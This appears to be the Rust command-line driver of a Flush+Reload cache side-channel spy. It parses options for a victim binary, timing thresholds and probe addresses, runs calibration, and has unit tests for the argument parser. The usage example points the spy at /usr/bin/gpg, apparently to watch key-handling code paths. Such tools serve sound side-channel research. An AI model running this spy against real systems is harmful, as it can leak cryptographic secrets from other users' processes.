use anyhow::Context;
use cache_utils::calibration::{
    write_msgpack, CalibrationSample, CalibrationSummary, CALIBRATION_SAMPLES,
};
use clap::Parser;
use env_logger::Env;
use flush_reload::{
    bench, spy, AttackOutcome, ProbeSet, ProbeSpec, SpyConfig, DEFAULT_THRESHOLD,
};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};

/// Flush+Reload spy on the shared pages of a victim binary.
///
/// ## Example
/// `spy -e /usr/bin/gpg -s 2500 -p A:0x4c7f10,B:0x4c8a30`
#[derive(Parser)]
struct Options {
    /// Victim binary, as mapped by the process to observe
    #[arg(short = 'e', long = "elf", required_unless_present = "bench")]
    elf: Option<PathBuf>,

    /// Highest reload time, in cycles, counted as a cache hit
    #[arg(short = 't', long = "threshold", default_value_t = DEFAULT_THRESHOLD)]
    threshold: u64,

    /// Slot length in cycles, also the number of slots in one trace
    #[arg(short = 's', long = "slot", required_unless_present = "bench")]
    slot: Option<u64>,

    /// Probe as N:0xADDR, with the address objdump shows for the victim
    #[arg(
        short = 'p',
        long = "probe",
        value_delimiter = ',',
        required_unless_present = "bench"
    )]
    probes: Vec<ProbeSpec>,

    /// Print calibration timings instead of spying
    #[arg(short = 'b', long = "bench", default_value = "false")]
    bench: bool,

    /// Number of calibration samples
    #[arg(long = "samples", default_value_t = CALIBRATION_SAMPLES)]
    samples: usize,

    /// Print a hit/miss latency histogram after calibrating
    #[arg(long = "histogram", default_value = "false")]
    histogram: bool,

    /// Write calibration samples to this MessagePack file instead of stdout
    #[arg(long = "output")]
    output: Option<PathBuf>,
}

fn print_samples(samples: &[CalibrationSample]) -> io::Result<()> {
    let mut out = BufWriter::new(io::stdout().lock());
    for sample in samples {
        writeln!(out, "{}: {}", sample.flushed as u8, sample.latency)?;
    }
    out.flush()
}

fn run_bench(samples: usize, histogram: bool, output: Option<&Path>) -> anyhow::Result<()> {
    let samples = bench(samples).context("calibration failed")?;
    match output {
        Some(path) => {
            write_msgpack(&samples, path)
                .with_context(|| format!("writing samples to {}", path.display()))?;
            log::info!("Wrote {} samples to {}", samples.len(), path.display());
        }
        None => print_samples(&samples)?,
    }

    let summary = CalibrationSummary::from_samples(&samples);
    if histogram {
        print!("{}", summary);
    }
    match summary.suggested_threshold() {
        Some(threshold) => log::info!(
            "Cached mode {:?}, flushed floor {:?}, suggested threshold {}",
            summary.hit_mode(),
            summary.miss_floor(),
            threshold
        ),
        None => log::warn!("Not enough samples to suggest a threshold"),
    }
    Ok(())
}

fn main() -> anyhow::Result<()> {
    env_logger::Builder::from_env(Env::default().default_filter_or("info")).init();
    let options = Options::parse();

    if options.bench {
        return run_bench(options.samples, options.histogram, options.output.as_deref());
    }

    let elf = options.elf.context("missing --elf")?;
    let slot = options.slot.context("missing --slot")?;
    let probes = ProbeSet::new(options.probes).context("invalid probes")?;
    let config =
        SpyConfig::new(elf, options.threshold, slot, probes).context("invalid configuration")?;

    match spy(&config).with_context(|| format!("spying on {}", config.elf_path.display()))? {
        AttackOutcome::Trace(trace) => {
            print!("{}", trace);
            io::stdout().flush()?;
        }
        AttackOutcome::Stopped { discarded } => {
            log::info!("Stopped, {} slot records dropped", discarded);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probes_split_on_commas_and_repeat() {
        let options = Options::try_parse_from([
            "spy", "-e", "victim", "-s", "2500", "-p", "A:0x401000,B:0x402000", "-p", "C:0x10",
        ])
        .unwrap();
        assert_eq!(options.threshold, DEFAULT_THRESHOLD);
        assert_eq!(options.slot, Some(2500));
        let names: Vec<char> = options.probes.iter().map(|p| p.name).collect();
        assert_eq!(names, vec!['A', 'B', 'C']);
    }

    #[test]
    fn bench_needs_no_target() {
        let options = Options::try_parse_from(["spy", "-b", "--samples", "10"]).unwrap();
        assert!(options.bench);
        assert_eq!(options.samples, 10);
        assert!(options.probes.is_empty());
    }

    #[test]
    fn attack_needs_a_target() {
        assert!(Options::try_parse_from(["spy", "-s", "100", "-p", "A:0x10"]).is_err());
        assert!(
            Options::try_parse_from(["spy", "-e", "victim", "-s", "100", "-p", "A:10"]).is_err()
        );
    }
}
